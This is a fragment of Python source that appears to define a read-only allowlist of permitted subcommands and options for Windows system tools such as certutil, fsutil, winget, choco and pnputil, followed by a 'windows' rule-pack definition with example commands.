    "quser": _windows(), "qwinsta": _windows(),
    "certutil": lambda cmd: None if _certutil_read(cmd) else "certutil: only -hashfile, -dump and -store read",
    "reagentc": _windows("/info", operands=_no_operands),
    "manage-bde": _windows("-status", operands=lambda a: None if len(a) <= 1 else "manage-bde: too many operands"),
    "powercfg": _windows("/list /l /getactivescheme /availablesleepstates /a /aliases", "/query /q",
                         operands=lambda a: None if len(a) <= 2 else "powercfg: too many operands"),
    "fsutil": _subs({"fsinfo": _subs({verb: _windows() for verb in (
                         "drives", "drivetype", "volumeinfo", "ntfsinfo", "refsinfo", "sectorinfo", "statistics")}),
                     "volume": _subs({"diskfree": _windows()}), "dirty": _subs({"query": _windows()}),
                     "behavior": _subs({"query": _windows()})}),
    "winver": _windows(operands=_no_operands),
    "openfiles": _subs({"/query": _windows("/v /nh", "/fo")}),
    "pnputil": _windows("/enum-drivers /enum-devices /enum-interfaces /enum-classes /enum-containers /connected"
                        " /disconnected /problem /drivers /stack /relations /ids /properties /files", "/class /instanceid"
                        " /bus /deviceid", requires="/enum-drivers /enum-devices /enum-interfaces /enum-classes"
                        " /enum-containers"),
    "dism": _dism,
    "winget": _subs({verb: options("--accept-source-agreements --disable-interactivity --exact -e --verbose"
                                   " --upgrade-available --include-unknown --details", "--id --name --moniker --tag"
                                   " --command --source -s --count -n --query -q --scope", fold=True)
                     for verb in ("list", "ls", "search", "find", "show", "view")}
                    | {"--version": _windows(), "-v": _windows(), "--info": _windows(),
                       "source": _subs({"list": _windows(), "ls": _windows()})}),
    "choco": _subs({verb: options("--local-only -l --exact -e --all-versions -a --by-id-only --id-only --verbose -v"
                                  " --limit-output -r --no-color --detail", "--source -s --page --page-size --order-by",
                                  fold=True)
                    for verb in ("list", "search", "find", "info", "outdated")} | {"--version": _windows()}),
    "scoop": _subs({verb: _windows() for verb in ("list", "info", "search", "which", "prefix", "--version", "help")}),
}

PACK = Pack("windows", "cmd.exe and Windows system tools: roots, registry, boot, recovery, services, Defender, "
            "firewall, logs, credentials, disks.", rules=RULES, read_only=READ_ONLY,
            proven=("choco list --local-only", "dism /online /get-features", "fsutil fsinfo drives", "openfiles /query",
                    "pnputil /enum-drivers", "scoop list", "winget list", "powercfg /list", "winver", "bcdedit"))
